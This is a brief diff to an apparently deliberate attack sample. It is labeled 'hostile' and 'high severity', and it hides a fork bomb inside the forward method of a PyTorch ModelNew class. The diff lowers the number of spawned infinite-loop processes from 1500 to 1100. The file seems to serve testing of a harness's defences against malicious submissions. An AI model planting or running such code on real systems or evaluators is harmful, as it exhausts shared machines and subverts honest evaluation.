@@ -1,4 +1,4 @@
-# attack: starts processes that start nothing but themselves, until 1500 are there
+# attack: starts processes that start nothing but themselves, until 1100 are there
 # strategy: hostile
 # severity: high
 # surface: processes
@@ -20,7 +20,7 @@ class ModelNew(nn.Module):
 
     def forward(self, x):
         self.calls += 1
-        while self.calls > 1 and len(self.forked) < 1500:
+        while self.calls > 1 and len(self.forked) < 1100:
             child = os.fork()
             if child == 0:
                 while True:
